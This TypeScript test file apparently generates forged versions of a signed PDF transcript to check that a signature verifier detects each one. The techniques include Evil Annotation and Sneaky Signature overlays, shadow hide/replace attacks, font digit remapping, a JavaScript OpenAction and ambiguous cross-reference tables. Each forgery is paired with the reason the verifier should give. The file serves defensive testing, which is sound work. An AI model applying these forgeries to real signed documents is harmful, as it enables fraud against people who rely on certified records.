import { serializeValue } from "../../src/core/signing/pdf-serialize.ts";
import type { PdfSigner } from "../../src/core/signing/signing.types.ts";
import type { ModificationCode } from "../../src/core/verification/modification-reasons.ts";
import { isRef, type PdfDict, type PdfValue } from "../../src/core/verification/pdf/pdf-values.ts";
import { copy, name, PdfEditor, r, stream } from "./pdf-editor.ts";
import { FIELDS } from "./pki/test-pki.ts";
import { classicPdf } from "./sample-pdf.ts";

/** One forged file: what the attacker did, and the reason the verifier must give. */
export interface AttackCase {
  name: string;
  bytes: Uint8Array;
  reason: ModificationCode;
}

const FORGED = "FORGED GRADE: A+";
const FULL_PAGE = "[0 0 612 792]";

/** A white sheet over the whole page with the forged text on it: what every attack shows readers. */
function coveringAppearance(ed: PdfEditor, extra = ""): number {
  const font = ed.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>");
  return ed.add(
    stream(
      `/Type /XObject /Subtype /Form /BBox ${FULL_PAGE} /Resources << /Font << /F1 ${font} 0 R >> >>${extra}`,
      `1 1 1 rg 0 0 612 792 re f BT /F1 36 Tf 0 0 0 rg 72 400 Td (${FORGED}) Tj ET`,
    ),
  );
}

/** An annotation of `subtype` covering page 1 with the forged appearance, listed on the page (and in the form). */
async function overlay(signed: Uint8Array, body: (ap: number, page: number) => string, field: boolean) {
  const ed = await PdfEditor.open(signed);
  const page = (await ed.pages())[0]?.num as number;
  const ap = coveringAppearance(ed);
  const annot = ed.add(body(ap, page));
  await ed.addToPage(annot);
  if (field) await ed.addToForm(annot);
  return ed.build();
}

const widget = (ap: number, page: number, rest: string) =>
  `<< /Type /Annot /Subtype /Widget ${rest} /Rect ${FULL_PAGE} /F 4 /P ${page} 0 R /AP << /N ${ap} 0 R >> /DA (/F1 36 Tf 0 g) >>`;
const annotation =
  (subtype: string, rest = "") =>
  (ap: number, page: number) =>
    `<< /Type /Annot /Subtype /${subtype} /Rect ${FULL_PAGE} /F 4 /P ${page} 0 R /AP << /N ${ap} 0 R >> /Contents (${FORGED})${rest} >>`;

async function firstFont(ed: PdfEditor, page: PdfDict): Promise<number> {
  const res = await ed.file.resolveDict(page.map.get("Resources"));
  const fonts = await ed.file.resolveDict(res?.map.get("Font"));
  const first = [...(fonts?.map.values() ?? [])].find(isRef);
  if (!isRef(first)) throw new Error("the test page has no indirect font");
  return first.num;
}

async function contentObject(ed: PdfEditor, page: PdfDict): Promise<number> {
  const c = page.map.get("Contents");
  const list = await ed.file.resolve(c);
  const first = Array.isArray(list) ? list[0] : c;
  if (!isRef(first)) throw new Error("the test page has no content stream object");
  return first.num;
}

/**
 * The attacks on a document signed by Sceau (`signed`: one page, signed once, certification
 * P=2), after "Breaking the Specification: PDF Certification" (Evil Annotation, Sneaky Signature),
 * the Shadow Attacks (hide, replace, hide-and-replace) and cross-reference tricks. Each returns
 * the forged file and the reason expected. `signers` sign with a trusted and an untrusted key.
 */
export async function attacksOnSigned(
  signed: Uint8Array,
  signers: { trusted: PdfSigner; untrusted: PdfSigner },
): Promise<AttackCase[]> {
  const cases: AttackCase[] = [];
  const add = (n: string, bytes: Uint8Array, reason: ModificationCode) =>
    cases.push({ name: n, bytes, reason });

  add(
    "overlay text field (Tx)",
    await overlay(signed, (ap, p) => widget(ap, p, `/FT /Tx /T (grade) /V (${FORGED})`), true),
    "form_field_added",
  );
  add(
    "overlay push button (Btn)",
    await overlay(signed, (ap, p) => widget(ap, p, "/FT /Btn /Ff 65536 /T (button)"), true),
    "form_field_added",
  );
  add(
    "overlay check box (Btn)",
    await overlay(signed, (ap, p) => widget(ap, p, "/FT /Btn /T (check) /V /Yes /AS /Yes"), true),
    "form_field_added",
  );
  add(
    "overlay choice list (Ch)",
    await overlay(
      signed,
      (ap, p) => widget(ap, p, `/FT /Ch /Ff 131072 /T (choice) /Opt [(${FORGED})] /V (${FORGED})`),
      true,
    ),
    "form_field_added",
  );
  add(
    "overlay text widget left out of the form",
    await overlay(signed, (ap, p) => widget(ap, p, `/FT /Tx /T (orphan) /V (${FORGED})`), false),
    "form_field_added",
  );
  add(
    "unsigned signature field with a covering appearance",
    await overlay(signed, (ap, p) => widget(ap, p, "/FT /Sig /T (Signature9)"), true),
    "unsigned_signature_field",
  );
  for (const subtype of ["FreeText", "Stamp", "Square", "Text", "Ink"])
    add(
      `${subtype} annotation with a covering appearance`,
      await overlay(signed, annotation(subtype), false),
      "annotation_added",
    );
  add(
    "Link annotation over the page",
    await overlay(signed, annotation("Link", " /A << /S /URI /URI (https://forged.example/) >>"), false),
    "annotation_added",
  );
  add(
    "open Popup annotation",
    await overlay(signed, annotation("Popup", " /Open true"), false),
    "annotation_added",
  );

  add(
    "a second signature by an untrusted key",
    await signers.untrusted.sign(signed, FIELDS),
    "signature_not_verifying",
  );
  add(
    "a trusted second signature whose widget is then made visible",
    await sneakySignature(await signers.trusted.sign(signed, FIELDS)),
    "visible_signature_added",
  );

  // pages and their content
  {
    const ed = await PdfEditor.open(signed);
    const root = await ed.pagesRoot();
    const page = (await ed.pages())[0] as { num: number; dict: PdfDict };
    const content = ed.add(stream("", `BT /F1 24 Tf 72 700 Td (${FORGED}) Tj ET`));
    const newPage = copy(page.dict);
    newPage.map.delete("Annots");
    newPage.map.set("Contents", r(content));
    const num = ed.add(serialize(newPage));
    const d = copy(root.dict);
    d.map.set("Kids", [...((await ed.file.resolve(root.dict.map.get("Kids"))) as PdfValue[]), r(num)]);
    d.map.set("Count", ((root.dict.map.get("Count") as number) ?? 1) + 1);
    ed.set(root.num, d);
    add("a new page", ed.build(), "page_added");
  }
  {
    const ed = await PdfEditor.open(signed);
    const root = await ed.pagesRoot();
    const page = (await ed.pages())[0] as { num: number; dict: PdfDict };
    const content = ed.add(stream("", `BT /F1 24 Tf 72 700 Td (${FORGED}) Tj ET`));
    const newPage = copy(page.dict);
    newPage.map.set("Contents", r(content));
    const num = ed.add(serialize(newPage));
    const kids = ((await ed.file.resolve(root.dict.map.get("Kids"))) as PdfValue[]).map((k, i) =>
      i === 0 ? r(num) : k,
    );
    const d = copy(root.dict);
    d.map.set("Kids", kids);
    ed.set(root.num, d);
    add("page 1 replaced by another page object", ed.build(), "page_replaced");
  }
  {
    const ed = await PdfEditor.open(signed);
    const page = (await ed.pages())[0] as { num: number; dict: PdfDict };
    ed.set(await contentObject(ed, page.dict), stream("", `BT /F1 24 Tf 72 700 Td (${FORGED}) Tj ET`));
    add("the page's content stream redefined", ed.build(), "content_changed");
  }
  {
    const ed = await PdfEditor.open(signed);
    const page = (await ed.pages())[0] as { num: number; dict: PdfDict };
    const content = ed.add(stream("", `BT /F1 24 Tf 72 700 Td (${FORGED}) Tj ET`));
    const d = copy(page.dict);
    d.map.set("Contents", r(content));
    ed.set(page.num, d);
    add("the page's /Contents pointed at a new stream", ed.build(), "content_changed");
  }
  {
    const ed = await PdfEditor.open(signed);
    const page = (await ed.pages())[0] as { num: number; dict: PdfDict };
    // a font whose glyphs for digits are remapped: the same bytes now read as other grades
    ed.set(
      await firstFont(ed, page.dict),
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [48 /nine /nine /nine /nine /nine /nine /nine /nine /nine /nine] >> >>",
    );
    add("a font swapped (digits remapped)", ed.build(), "resources_changed");
  }
  {
    const ed = await PdfEditor.open(signed);
    const page = (await ed.pages())[0] as { num: number; dict: PdfDict };
    const d = copy(page.dict);
    d.map.set("Rotate", 180);
    ed.set(page.num, d);
    add("the page turned upside down (/Rotate)", ed.build(), "page_changed");
  }

  // the catalog, the form, the metadata
  {
    const ed = await PdfEditor.open(signed);
    await ed.setCatalog({ OpenAction: dict({ S: name("JavaScript"), JS: str("app.alert('forged')") }) });
    add("a JavaScript /OpenAction", ed.build(), "action_added");
  }
  {
    const ed = await PdfEditor.open(signed);
    const cat = await ed.catalog();
    const acroValue = cat.dict.map.get("AcroForm");
    const acro = copy((await ed.file.resolveDict(acroValue)) as PdfDict);
    acro.map.set("NeedAppearances", true);
    if (isRef(acroValue)) ed.set(acroValue.num, acro);
    else await ed.setCatalog({ AcroForm: acro });
    add("/NeedAppearances turned on (readers redraw every field)", ed.build(), "form_changed");
  }
  {
    const ed = await PdfEditor.open(signed);
    const info = ed.file.trailer.map.get("Info");
    if (!isRef(info)) throw new Error("no /Info");
    const d = copy((await ed.file.resolveDict(info)) as PdfDict);
    d.map.set("Title", str("Diplôme de doctorat"));
    ed.set(info.num, d);
    add("the document information (/Info) edited", ed.build(), "metadata_changed");
  }

  // cross-reference tricks
  add(
    "an object in both the classic table and the xref stream of a hybrid update",
    await hybridUpdate(signed),
    "xref_ambiguous",
  );
  add("an object listed twice in one cross-reference table", await duplicateEntry(signed), "xref_ambiguous");
  add(
    "an object hidden outside the cross-reference table",
    await unlistedObject(signed),
    "unreferenced_object",
  );
  return cases;
}

/**
 * The shadow attacks on a document prepared to carry them before it was signed
 * ({@link shadowReadyPdf}): content hidden when signed, revealed or replaced after.
 */
export async function shadowAttacks(signedShadow: Uint8Array): Promise<AttackCase[]> {
  const cases: AttackCase[] = [];
  {
    const ed = await PdfEditor.open(signedShadow);
    const cat = await ed.catalog();
    const oc = copy(cat.dict.map.get("OCProperties") as PdfDict);
    oc.map.set("D", dict({ Order: [r(8)], OFF: [] }));
    await ed.setCatalog({ OCProperties: oc });
    cases.push({
      name: "shadow hide: a layer hidden when signed is switched on",
      bytes: ed.build(),
      reason: "optional_content_changed",
    });
  }
  {
    const ed = await PdfEditor.open(signedShadow);
    const d = copy((await ed.get(7)) as PdfDict);
    d.map.set("F", 4);
    ed.set(7, d);
    cases.push({
      name: "shadow hide: a hidden annotation made visible (/F)",
      bytes: ed.build(),
      reason: "annotation_changed",
    });
  }
  {
    const ed = await PdfEditor.open(signedShadow);
    const ap = ed.add(
      stream(
        "/Type /XObject /Subtype /Form /BBox [0 0 80 20] /Resources << /Font << /Helv 5 0 R >> >>",
        "/Tx BMC BT /Helv 12 Tf 2 5 Td (A+) Tj ET EMC",
      ),
    );
    const d = copy((await ed.get(6)) as PdfDict);
    d.map.set("V", str("A+"));
    d.map.set("AP", dict({ N: r(ap) }));
    ed.set(6, d);
    cases.push({
      name: "shadow replace: a form field's value and appearance changed",
      bytes: ed.build(),
      reason: "form_field_changed",
    });
  }
  {
    const ed = await PdfEditor.open(signedShadow);
    const ap = ed.add(
      stream(
        `/Type /XObject /Subtype /Form /BBox ${FULL_PAGE} /Resources << /Font << /F1 5 0 R >> >>`,
        `1 1 1 rg 0 0 612 792 re f BT /F1 36 Tf 0 0 0 rg 72 400 Td (${FORGED}) Tj ET`,
      ),
    );
    ed.set(
      40,
      `<< /Type /Annot /Subtype /FreeText /Rect ${FULL_PAGE} /F 4 /P 3 0 R /AP << /N ${ap} 0 R >> >>`,
    );
    ed.next = Math.max(ed.next, 41);
    cases.push({
      name: "hide-and-replace: a reference missing when signed now points at an annotation",
      bytes: ed.build(),
      reason: "annotation_added",
    });
  }
  return cases;
}

/**
 * A one-page PDF prepared for shadow attacks (classic xref, fixed numbers): a layer (8) switched
 * off holding "HIDDEN LAYER: A+", a hidden FreeText annotation (7), a text field "grade" (6)
 * showing "B", and an /Annots entry pointing at object 40, which does not exist.
 */
export function shadowReadyPdf(): Uint8Array {
  const content =
    "BT /F1 18 Tf 72 720 Td (Releve de notes - Transcript) Tj ET BT /F1 12 Tf 72 680 Td (Grade:) Tj ET " +
    "/OC /oc1 BDC 1 1 1 rg 60 380 500 60 re f BT /F1 30 Tf 0 0 0 rg 72 400 Td (HIDDEN LAYER: A+) Tj ET EMC";
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv 5 0 R >> >> >> /OCProperties << /OCGs [8 0 R] /D << /Order [8 0 R] /OFF [8 0 R] >> >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /Properties << /oc1 8 0 R >> >> /Annots [6 0 R 7 0 R 40 0 R] >>",
    stream("", content),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    "<< /Type /Annot /Subtype /Widget /FT /Tx /T (grade) /V (B) /Rect [120 672 200 692] /F 4 /P 3 0 R /AP << /N 9 0 R >> /DA (/Helv 12 Tf 0 g) >>",
    "<< /Type /Annot /Subtype /FreeText /Rect [60 300 560 360] /F 2 /P 3 0 R /Contents (A+) /DA (/Helv 24 Tf 0 g) /AP << /N 10 0 R >> >>",
    "<< /Type /OCG /Name (Hidden layer) >>",
    stream(
      "/Type /XObject /Subtype /Form /BBox [0 0 80 20] /Resources << /Font << /Helv 5 0 R >> >>",
      "/Tx BMC BT /Helv 12 Tf 2 5 Td (B) Tj ET EMC",
    ),
    stream(
      `/Type /XObject /Subtype /Form /BBox [0 0 500 60] /Resources << /Font << /F1 5 0 R >> >>`,
      "1 1 1 rg 0 0 500 60 re f BT /F1 30 Tf 0 0 0 rg 10 20 Td (A+) Tj ET",
    ),
    "<< /Title (Shadow attack test) >>",
  ];
  return classicPdf(objects, `/Root 1 0 R /Info ${objects.length} 0 R`);
}

/** Sneaky signature: the widget of a trusted later signature given a covering appearance afterwards. */
async function sneakySignature(twice: Uint8Array): Promise<Uint8Array> {
  const ed = await PdfEditor.open(twice);
  const page = (await ed.pages())[0] as { num: number; dict: PdfDict };
  const annots = (await ed.file.resolve(page.dict.map.get("Annots"))) as PdfValue[];
  const last = annots[annots.length - 1];
  if (!isRef(last)) throw new Error("no signature widget");
  const d = copy((await ed.get(last.num)) as PdfDict);
  d.map.set("Rect", [0, 0, 612, 792]);
  d.map.set("F", 4);
  d.map.set("AP", dict({ N: r(coveringAppearance(ed)) }));
  ed.set(last.num, d);
  return ed.build();
}

/** A hybrid update: the classic table lists the page at one definition, its /XRefStm at another. */
async function hybridUpdate(signed: Uint8Array): Promise<Uint8Array> {
  const ed = await PdfEditor.open(signed);
  const page = (await ed.pages())[0] as { num: number; dict: PdfDict };
  const prev = ed.file.startxref;
  const base = signed.length;
  let text = "\n";
  const honest = base + text.length;
  text += `${page.num} 0 obj\n${serialize(page.dict)}\nendobj\n`;
  const forgedContent = ed.next++;
  const contentAt = base + text.length;
  text += `${forgedContent} 0 obj\n${stream("", `BT /F1 24 Tf 72 700 Td (${FORGED}) Tj ET`)}\nendobj\n`;
  const forged = copy(page.dict);
  forged.map.set("Contents", r(forgedContent));
  const forgedAt = base + text.length;
  text += `${page.num} 0 obj\n${serialize(forged)}\nendobj\n`;
  const stmNum = ed.next++;
  const stmAt = base + text.length;
  const row = (off: number) =>
    String.fromCharCode(1, (off >>> 24) & 255, (off >>> 16) & 255, (off >>> 8) & 255, off & 255, 0, 0);
  const data = row(forgedAt) + row(contentAt);
  text += `${stmNum} 0 obj\n<< /Type /XRef /Size ${ed.next} /W [1 4 2] /Index [${page.num} 1 ${forgedContent} 1] /Length ${data.length} >>\nstream\n${data}\nendstream\nendobj\n`;
  const xrefAt = base + text.length;
  text += `xref\n${page.num} 1\n${String(honest).padStart(10, "0")} 00000 n\r\n`;
  text += `trailer\n<< /Size ${ed.next} ${rootAndInfo(ed)} /Prev ${prev} /XRefStm ${stmAt} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.concat([Buffer.from(signed), Buffer.from(text, "latin1")]);
}

/** One classic table that lists the page twice: the honest copy first, a forged one after. */
async function duplicateEntry(signed: Uint8Array): Promise<Uint8Array> {
  const ed = await PdfEditor.open(signed);
  const page = (await ed.pages())[0] as { num: number; dict: PdfDict };
  const base = signed.length;
  let text = "\n";
  const honest = base + text.length;
  text += `${page.num} 0 obj\n${serialize(page.dict)}\nendobj\n`;
  const forged = copy(page.dict);
  forged.map.set("Rotate", 180);
  const forgedAt = base + text.length;
  text += `${page.num} 0 obj\n${serialize(forged)}\nendobj\n`;
  const xrefAt = base + text.length;
  text += `xref\n${page.num} 1\n${String(honest).padStart(10, "0")} 00000 n\r\n${page.num} 1\n${String(forgedAt).padStart(10, "0")} 00000 n\r\n`;
  text += `trailer\n<< /Size ${ed.next} ${rootAndInfo(ed)} /Prev ${ed.file.startxref} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.concat([Buffer.from(signed), Buffer.from(text, "latin1")]);
}

/** A redefinition of the page written after the signature but listed nowhere (repairing readers find it). */
async function unlistedObject(signed: Uint8Array): Promise<Uint8Array> {
  const ed = await PdfEditor.open(signed);
  const page = (await ed.pages())[0] as { num: number; dict: PdfDict };
  const forged = copy(page.dict);
  forged.map.set("Rotate", 180);
  const hidden = Buffer.from(`\n${page.num} 0 obj\n${serialize(forged)}\nendobj\n`, "latin1");
  // then an honest-looking update that rewrites /Info unchanged
  const info = ed.file.trailer.map.get("Info");
  if (!isRef(info)) throw new Error("no /Info");
  ed.set(info.num, (await ed.file.resolveDict(info)) as PdfDict);
  return ed.buildOn(Buffer.concat([Buffer.from(signed), hidden]));
}

/** The trailer's /Root and /Info entries, copied. */
function rootAndInfo(ed: PdfEditor): string {
  const root = ed.file.trailer.map.get("Root") as { num: number };
  const info = ed.file.trailer.map.get("Info");
  return `/Root ${root.num} 0 R${isRef(info) ? ` /Info ${info.num} 0 R` : ""}`;
}

function dict(entries: Record<string, PdfValue>): PdfDict {
  return { kind: "dict", map: new Map(Object.entries(entries)), start: 0, end: 0 };
}

function str(text: string): PdfValue {
  const bytes = Uint8Array.from(Buffer.from(text, "latin1"));
  return { kind: "string", bytes, hex: false, start: 0, end: 0 };
}

const serialize = (v: PdfValue): string => serializeValue(v);
